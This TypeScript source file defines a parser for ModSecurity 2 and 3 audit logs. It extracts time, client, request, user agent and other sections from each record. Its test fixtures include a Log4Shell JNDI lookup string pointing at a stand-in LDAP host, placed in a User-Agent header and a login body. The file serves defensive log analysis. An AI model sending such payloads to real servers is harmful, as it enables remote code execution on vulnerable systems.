import { readTime } from '../time/read-time.ts'
import { addressOf } from './address-of.ts'
import type { LogFormat, RecordField, Span } from './format.ts'
import { requestOf } from './quoted-fields.ts'

/**
 * Audit logs of ModSecurity in one file: sections whose first lines have the same random letters, from `--…-A--` to
 * `--…-Z--` (`---…---A--` in version 3). A has the time, an id and both ends; B the request and its headers, C and I its body,
 * E and F the response, H what the rules said. A client cannot know the letters when it writes a section into a body.
 */
export const modsecurityAudit: LogFormat = {
  id: 'modsecurity-audit',
  summary: 'audit logs of ModSecurity 2 and 3 in one file, each section and header by itself',
  definedBy: 'https://github.com/owasp-modsecurity/ModSecurity/wiki/ModSecurity-2-Data-Formats',
  examples: {
    reads: [
      {
        record:
          '--b1820656-A--\n[12/Dec/2021:04:25:41 +0000] YbV5tX8AAQEAAGNDUFwAAAAY 203.0.113.9 51234 10.0.0.4 443\n--b1820656-B--\nGET /a HTTP/1.1\nHost: www.example.com\nUser-Agent: ${jndi:ldap://x.example/a}\n\n--b1820656-F--\nHTTP/1.1 403 Forbidden\n\n--b1820656-H--\nMessage: Access denied with code 403 (phase 2).\n\n--b1820656-Z--',
        when: '2021-12-12T04:25:41Z',
        from: '203.0.113.9',
        request: 'GET /a',
        userAgent: '${jndi:ldap://x.example/a}',
      },
      {
        record:
          '---9vOuhfZZ---A--\r\n[12/Dec/2021:05:25:41 +0100] 150122724251.842785 2001:db8::9 52804 2001:db8::4 8085\r\n---9vOuhfZZ---B--\r\nPOST /login HTTP/1.1\r\nhost: www.example.com\r\n\r\n---9vOuhfZZ---C--\r\nuser=${jndi:ldap://x.example/a}\r\n---9vOuhfZZ---Z--\r\n',
        when: '2021-12-12T04:25:41Z',
        from: '2001:db8::9',
        request: 'POST /login',
      },
    ],
    refuses: [
      '--b1820656-A--',
      '--b1820656-A--\n203.0.113.9',
      '--b1820656-B--\nGET /a HTTP/1.1',
      'x --b1820656-A--\n[12/Dec/2021:04:25:41 +0000] a 203.0.113.9 51234 10.0.0.4 443\n--b1820656-Z--',
    ],
  },
  read({ text }, { around }) {
    const head =
      /^--(-[A-Za-z\d]{8}--|[\da-f]{8})-A--\r?\n\[([^\]\n]{10,40})\] \S{1,64} (\S{1,60}) \d{1,5} \S{1,60} \d{1,5}\s*\n/.exec(
        text,
      )
    if (head === null) return null
    const [, letters = '', time = '', client] = head
    const sections = sectionsOf(text, letters)
    const [line = '', ...headers] = (sections.get('B') ?? '').split(/\r?\n/)
    return {
      when: readTime(time, around),
      from: addressOf(client),
      request: requestOf(line),
      userAgent: headerOf(headers, 'user-agent'),
      fields: [
        { name: 'request', value: line },
        ...headers.slice(0, mostHeaders).map(fieldOf),
        ...othersOf(headers, sections),
      ],
    }
  },
  spans: { mark: '-A--', mayHold: () => true, around: recordAround },
}

/** More than any server takes; the others are read as one. */
const mostHeaders = 256

const boundaries = /^--(-[A-Za-z\d]{8}--|[\da-f]{8})-([A-Z])--\r?$/gm

/** By their letters, without what another record's letters stand before. */
function sectionsOf(text: string, letters: string): ReadonlyMap<string, string> {
  const own = [...text.matchAll(boundaries)].filter(([, each]) => each === letters)
  return new Map(
    own.map(({ 0: line, 2: section = '', index }, i) => [
      section,
      text.slice(index + line.length, own[i + 1]?.index ?? text.length).replace(/^\r?\n|\s+$/g, ''),
    ]),
  )
}

function headerOf(headers: readonly string[], name: string): string | null {
  const header = headers.find((each) => each.slice(0, name.length + 1).toLowerCase() === `${name}:`)
  return header?.slice(name.length + 1).trim() || null
}

function fieldOf(header: string): RecordField {
  const [, name, value] = /^([^\s:]{1,128}): ?([^]*)$/.exec(header) ?? []
  return name === undefined ? { name: 'header', value: header } : { name: `header ${name}`, value: value ?? '' }
}

const names: Readonly<Record<string, string>> = { C: 'body', I: 'body', E: 'response', F: 'response', H: 'rules' }

function othersOf(headers: readonly string[], sections: ReadonlyMap<string, string>): readonly RecordField[] {
  const rest = headers.slice(mostHeaders)
  return [
    ...(rest.length === 0 ? [] : [{ name: 'headers', value: rest.join('\n') }]),
    ...[...sections]
      .filter(([section]) => section !== 'A' && section !== 'B' && section !== 'Z')
      .map(([section, value]) => ({ name: names[section] ?? `section ${section}`, value })),
  ]
}

/**
 * From the A to the Z of the same letters, whatever stands between. A section whose A lies before the piece shows that the piece
 * begins within a record, and that all until there may be what a client wrote into its body.
 */
function recordAround(piece: string, place: number): Span | null {
  let span: Span | null = null
  let open: { readonly letters: string; readonly start: number } | null = null
  for (const { 0: line, 1: letters = '', 2: section, index } of piece.matchAll(boundaries)) {
    if (open === null && section === 'A') {
      if (index > place) break
      open = { letters, start: index }
    } else if (open === null) {
      if (index > place || span !== null) return null
    } else if (open.letters === letters && section === 'Z') {
      const end = index + line.length
      if (span === null && place >= open.start && place < end) span = { start: open.start, end }
      open = null
    }
  }
  return span
}
